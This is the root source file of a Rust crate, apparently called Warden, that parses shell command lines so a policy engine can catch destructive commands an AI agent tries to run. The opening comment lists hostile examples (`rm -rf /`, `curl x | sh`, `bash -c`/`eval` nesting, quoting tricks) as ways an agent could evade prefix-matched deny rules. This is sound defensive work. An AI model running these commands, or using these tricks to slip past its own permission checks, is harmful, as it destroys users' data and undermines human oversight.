//! Warden's shell-command analysis. Pure: no I/O, no async, no clock reads, and no other
//! Warden crate.
//!
//! Attack: an agent runs a destructive command by putting it where a plain prefix match on the
//! command text does not look. It can hide behind a harmless command (`ls && rm -rf /`,
//! `ls; curl x | sh`), behind a wrapper (`sudo timeout 5 nice rm -rf ~`), inside text that
//! another shell parses again (`bash -c 'rm -rf /'`, `eval "rm -rf /"`, `find . -exec rm {} +`),
//! or behind quoting and escapes that change how the text looks but not what runs (`r'm'`,
//! `"rm"`, `\rm`, `$'\x72m'`, `{rm,-rf,/}`). This crate reads a command line the way bash
//! does: quotes are removed, the line is split into every simple command, and wrappers are seen
//! through. Deny and ask rules then see what will actually run, and allow rules fire only when
//! every part of the line is covered. Parts that cannot be read from the text (`$(...)`, `$CMD`,
//! `eval`, here-docs that expand) are reported as opaque, and a wildcard allow rule never covers
//! them.
//!
//! Owns: parsing a command line ([`CommandLine`]: splitting, quoting, brace expansion,
//! redirections, nested command text), wrappers, rule patterns for commands ([`Pattern`]), the
//! built-in read-only set ([`is_read_only`]), the circuit breakers ([`circuit_breaker`]), and the
//! lexical path helpers both those checks and the policy engine's file rules use
//! ([`text_path`]).
//! Does not own: rules, levels, modes or decisions (`warden-policy`, which depends on this
//! crate), nor running anything: a command line is only ever read here.
//!
//! The engine parses a line once ([`CommandLine::parse`]) and then asks many questions of it:
//! [`matches_any`] for deny and ask rules, [`allowed_by`] for allow rules, [`is_read_only`] for
//! the built-in read-only set and [`circuit_breaker`] for commands that always need a person.
//! Rules that are checked often should be compiled once with [`Pattern::parse`] and matched with
//! [`matches_any_pattern`] and [`allowed_by_patterns`].

mod breakers;
mod checked;
mod classify;
mod evaluated;
mod forms;
mod inline;
mod interpreters;
mod lex;
mod own_decision;
mod paths;
mod pattern;
mod readonly;
mod split;
pub mod text_path;
mod unread;
mod wrappers;

#[cfg(test)]
mod tests;

use std::cell::Cell;
use std::ops::Range;
use std::sync::OnceLock;

pub use checked::Checked;
pub use forms::Head;
pub use inline::Inline;
pub use own_decision::MAX_WILDCARD_LINE;
pub use pattern::{Pattern, allowed_by_each, allowed_by_patterns, matches_any_pattern};

use forms::DenyForm;
use inline::Starts;
use lex::Word;
use paths::Places;

/// A parsed command line: every simple command bash would run, in order, including those inside
/// subshells, groups, loops and function bodies.
///
/// Words borrow from the text parsed when they are spelled as they read, so parsing the usual
/// command line copies little; [`CommandLine::into_owned`] detaches a line from its text.
#[derive(Debug, Clone, Default)]
pub struct CommandLine<'s> {
    pub(crate) subs: Vec<SubCommand<'s>>,
    /// Unreadable parts that belong to no single subcommand (unbalanced parentheses, ...).
    pub(crate) reasons: Vec<String>,
    pub(crate) functions: Vec<FunctionDef>,
    /// Bytes of the text this line was parsed from: a line longer than the analysis limit
    /// ([`MAX_WILDCARD_LINE`]) is never read-only, since nobody reads it.
    pub(crate) len: usize,
}

/// A function defined on the line; kept so fork bombs can be recognised whatever the name.
#[derive(Debug, Clone)]
pub(crate) struct FunctionDef {
    pub(crate) name: String,
    /// Indices into `CommandLine::subs` of the body's commands.
    pub(crate) body: Range<usize>,
    /// The body pipes or backgrounds something, so a recursive call multiplies processes.
    pub(crate) concurrent: bool,
}

/// One simple command: its words after quote removal, its redirections, the wrappers seen in
/// front of the real program, and the command text nested inside it (`$(...)`, `sh -c '...'`).
#[derive(Debug, Clone, Default)]
pub struct SubCommand<'s> {
    pub(crate) words: Vec<Word<'s>>,
    pub(crate) redirects: Vec<Redirect>,
    pub(crate) reasons: Vec<String>,
    pub(crate) nested: Vec<CommandLine<'s>>,
    /// Word indices where a command may start once wrappers are stripped (deny view: all of them).
    pub(crate) deny_starts: Starts,
    /// Word indices where a command starts once only harmless wrappers are stripped.
    pub(crate) allow_starts: Starts,
    /// The deny forms, built when a deny or ask rule is first matched: a call for which no such
    /// rule is a candidate never pays for them. Allow forms are read in place from the words.
    pub(crate) deny_forms: OnceLock<Vec<DenyForm>>,
    pub(crate) wrappers: Vec<String>,
    /// Runs nothing by itself (a `for` header, or only harmless redirections).
    pub(crate) noop: bool,
}

/// How a redirection uses its target.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum RedirectKind {
    /// `<`
    Input,
    /// `>`
    Output,
    /// `>>`
    Append,
    /// `>|`
    Clobber,
    /// `&>`
    OutputAndError,
    /// `&>>`
    AppendOutputAndError,
    /// `<>` (opens for writing too, creating the file)
    ReadWrite,
    /// `<&`
    DupInput,
    /// `>&`: to a descriptor, or to a file when the target is not a number or `-`
    DupOutput,
    /// `<<` or `<<-`; `expands` when the delimiter is unquoted, so the body is expanded
    HereDoc {
        /// The body undergoes expansion (and command substitution).
        expands: bool,
    },
    /// `<<<`
    HereString,
}

/// A redirection of a subcommand. For here-documents the target is the delimiter.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Redirect {
    /// What the redirection does.
    pub kind: RedirectKind,
    /// The explicit descriptor number (`2>`), if any.
    pub fd: Option<u32>,
    /// The target after quote removal.
    pub target: String,
}

impl Redirect {
    /// True if the redirection opens its target for writing (descriptor duplication excluded).
    pub fn writes_file(&self) -> bool {
        match self.kind {
            RedirectKind::Output
            | RedirectKind::Append
            | RedirectKind::Clobber
            | RedirectKind::OutputAndError
            | RedirectKind::AppendOutputAndError
            | RedirectKind::ReadWrite => true,
            RedirectKind::DupOutput => !is_fd_target(&self.target),
            RedirectKind::Input
            | RedirectKind::DupInput
            | RedirectKind::HereDoc { .. }
            | RedirectKind::HereString => false,
        }
    }
}

/// `2`, `-`, `3-`: a descriptor, not a file name.
pub(crate) fn is_fd_target(t: &str) -> bool {
    let digits = t.strip_suffix('-').unwrap_or(t);
    t == "-" || (!digits.is_empty() && digits.chars().all(|c| c.is_ascii_digit()))
}

/// Ceiling on characters produced by brace expansion in one top-level parse, shared by every
/// nested parse, so hostile input cannot make parsing allocate without bound.
const EXPANSION_BUDGET: usize = 1 << 20;

impl<'s> CommandLine<'s> {
    /// Parses a command line. Total: never panics, whatever the input.
    pub fn parse(line: &'s str) -> CommandLine<'s> {
        let budget = Cell::new(EXPANSION_BUDGET);
        Self::parse_at(line, 0, &budget)
    }

    pub(crate) fn parse_at(line: &'s str, depth: usize, budget: &Cell<usize>) -> CommandLine<'s> {
        let mut lexer = lex::Lexer::new(line, depth, budget);
        let (toks, _) = lexer.lex_seq(false);
        let mut parsed = split::build(toks, depth, budget);
        parsed.len = line.len();
        parsed
    }

    /// The simple commands of the line, in order (nested command text is under
    /// [`SubCommand::nested`]).
    pub fn subcommands(&self) -> &[SubCommand<'s>] {
        &self.subs
    }

    /// The line with every word's text copied, so it outlives the text it was parsed from.
    pub fn into_owned(self) -> CommandLine<'static> {
        CommandLine {
            subs: self.subs.into_iter().map(SubCommand::into_owned).collect(),
            reasons: self.reasons,
            functions: self.functions,
            len: self.len,
        }
    }

    /// Parts the matcher cannot read statically, with a reason each; empty if fully readable.
    pub fn opaque_reasons(&self) -> Vec<String> {
        let mut out: Vec<String> = Vec::new();
        let all = self
            .reasons
            .iter()
            .chain(self.subs.iter().flat_map(|s| s.reasons.iter()));
        for r in all {
            if !out.contains(r) {
                out.push(r.clone());
            }
        }
        out
    }

    /// True if any part of the line is opaque.
    pub fn is_opaque(&self) -> bool {
        !self.reasons.is_empty() || self.subs.iter().any(SubCommand::is_opaque)
    }

    /// Targets of redirections that write a file, other than `/dev/null`, `/dev/stdout` and
    /// `/dev/stderr`, including those of nested command text. Allow rules match words only, so an
    /// engine that wants writes checked against its path rules should look at these.
    pub fn write_targets(&self) -> Vec<String> {
        let mut out = Vec::new();
        self.any_write_target(&mut |t| {
            out.push(t.to_owned());
            false
        });
        out
    }

    /// The first program the line may run for which `f` holds: every
    /// subcommand at every start (seen through each wrapper, and as written),
    /// and the command text nested in `sh -c`, `eval`, `$(...)` and
    /// `find -exec`. `f` gets the program's last path component.
    pub fn runs_any(&self, f: &impl Fn(&str) -> bool) -> Option<&str> {
        self.subs.iter().find_map(|sub| {
            sub.runs(f)
                .or_else(|| sub.nested.iter().find_map(|n| n.runs_any(f)))
        })
    }

    /// Whether `f` holds for any of [`CommandLine::write_targets`], without collecting them.
    pub fn any_write_target(&self, f: &mut impl FnMut(&str) -> bool) -> bool {
        self.subs.iter().any(|sub| {
            sub.redirects
                .iter()
                .any(|r| r.writes_file() && !paths::is_harmless_sink(&r.target) && f(&r.target))
                || sub.nested.iter().any(|n| n.any_write_target(f))
        })
    }
}

impl<'s> SubCommand<'s> {
    /// The subcommand with its words' text copied (see [`CommandLine::into_owned`]).
    pub fn into_owned(self) -> SubCommand<'static> {
        SubCommand {
            words: self.words.into_iter().map(Word::into_owned).collect(),
            redirects: self.redirects,
            reasons: self.reasons,
            nested: self
                .nested
                .into_iter()
                .map(CommandLine::into_owned)
                .collect(),
            deny_starts: self.deny_starts,
            allow_starts: self.allow_starts,
            deny_forms: self.deny_forms,
            wrappers: self.wrappers,
            noop: self.noop,
        }
    }

    /// The words after quote removal (keywords such as `then` or `!` are not words).
    pub fn words(&self) -> Vec<&str> {
        self.words.iter().map(|w| w.text.as_ref()).collect()
    }

    /// The words joined with single spaces.
    pub fn text(&self) -> String {
        self.words().join(" ")
    }

    /// Redirections, in order.
    pub fn redirects(&self) -> &[Redirect] {
        &self.redirects
    }

    /// The arguments bash passes to the program this subcommand runs: its words after any
    /// leading assignments, after quote removal and brace expansion. A word whose value bash
    /// only knows at run time (a glob, a leading `~`, a parameter or substitution) is `None`.
    /// Empty for a subcommand that runs nothing by itself (a `for` header, assignments only).
    pub fn argv(&self) -> Vec<Option<&str>> {
        if self.noop {
            return Vec::new();
        }
        self.words
            .iter()
            .skip_while(|w| w.assignment)
            .map(|w| {
                let runtime = w.glob || w.tilde || w.param || w.cmdsub || w.procsub;
                (!runtime).then_some(w.text.as_ref())
            })
            .collect()
    }

    /// Wrapper programs seen in front of the command (`sudo`, `timeout`, `env`, ...), in order.
    pub fn wrappers(&self) -> &[String] {
        &self.wrappers
    }

    /// The program run once every wrapper is stripped (last path component), if any.
    pub fn program(&self) -> Option<&str> {
        let start = self
            .deny_starts
            .iter()
            .copied()
            .filter(|&s| !self.is_assignment(s))
            .max()?;
        self.words
            .get(start)
            .map(|w| wrappers::program_name(&w.text))
    }

    /// How deny patterns read this command: one form per wrapper-stripped start.
    pub(crate) fn deny_forms(&self) -> &[DenyForm] {
        self.deny_forms.get_or_init(|| {
            self.deny_starts
                .iter()
                .flat_map(|&s| forms::deny_forms(&self.words, s))
                .collect()
        })
    }

    /// How allow patterns read this command: whether `f` holds for a form of any
    /// harmlessly-stripped start.
    pub(crate) fn any_allow_form(&self, mut f: impl FnMut(forms::AllowForm<'_>) -> bool) -> bool {
        self.allow_starts
            .iter()
            .any(|&s| forms::any_allow_form(&self.words, s, &mut f))
    }

    fn is_assignment(&self, i: usize) -> bool {
        self.words.get(i).is_some_and(|w| w.assignment)
    }

    /// Why this subcommand cannot be read statically; empty if it can.
    pub fn opaque_reasons(&self) -> &[String] {
        &self.reasons
    }

    /// True if some part of this subcommand cannot be read statically.
    pub fn is_opaque(&self) -> bool {
        !self.reasons.is_empty()
    }

    /// The first program this subcommand may run, at any wrapper-stripped
    /// start or unstripped, for which `f` holds.
    fn runs(&self, f: &impl Fn(&str) -> bool) -> Option<&str> {
        self.deny_starts
            .iter()
            .filter(|&&i| !self.is_assignment(i))
            .filter_map(|&i| self.words.get(i))
            .map(|w| wrappers::program_name(&w.text))
            .find(|p| f(p))
    }

    /// Command text nested inside this subcommand (`$(...)`, backticks, `sh -c` and `eval`
    /// strings, `find -exec` commands, here-document bodies that expand).
    pub fn nested(&self) -> &[CommandLine<'s>] {
        &self.nested
    }
}

/// For deny and ask rules: true if `pattern` matches any subcommand, seen through every wrapper
/// and also unstripped, including commands nested in `sh -c`, `eval`, `$(...)` and `find -exec`.
pub fn matches_any(pattern: &str, line: &CommandLine) -> bool {
    matches_any_pattern(&Pattern::parse(pattern), line)
}

/// For allow rules: true only if every subcommand is covered by at least one pattern, after
/// stripping only harmless wrappers. Opaque subcommands are covered only by patterns without `*`.
pub fn allowed_by(patterns: &[&str], line: &CommandLine) -> bool {
    let compiled: Vec<Pattern> = patterns.iter().map(|p| Pattern::parse(p)).collect();
    allowed_by_patterns(&compiled, line)
}

/// True only if every subcommand is in the built-in read-only set, nothing is opaque, nothing is
/// written (except to `/dev/null`), no path argument reaches outside `workspace`, and the line is
/// no longer than [`MAX_WILDCARD_LINE`].
pub fn is_read_only(line: &CommandLine, workspace: &str, cwd: &str, home: &str) -> bool {
    readonly::is_read_only(line, &Places::new(workspace, cwd, home))
}

/// Commands that always need a person, whatever the mode: returns why, if any subcommand (seen
/// through every wrapper and nested string) would wipe `/`, a top-level directory, home or the
/// workspace, format or overwrite a disk, or fork-bomb the machine.
pub fn circuit_breaker(
    line: &CommandLine,
    workspace: &str,
    cwd: &str,
    home: &str,
) -> Option<String> {
    breakers::circuit_breaker(line, &Places::new(workspace, cwd, home))
}
